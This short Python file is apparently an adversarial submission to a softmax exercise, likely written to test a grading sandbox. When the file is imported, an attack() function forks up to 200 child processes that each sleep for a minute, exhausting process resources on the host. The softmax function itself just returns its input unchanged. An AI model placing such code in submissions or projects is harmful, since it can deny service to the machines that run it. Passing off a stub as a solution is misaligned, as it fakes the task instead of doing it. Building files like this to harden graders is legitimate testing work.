# flashdojo: exercise=s1-softmax stage=s1
"""Forks as often as it can; the children sleep."""
import os
import time


def attack(x=None):
    for _ in range(200):
        try:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
        except OSError:
            pass
    return x


attack()


def softmax(x, dim=-1):
    return x
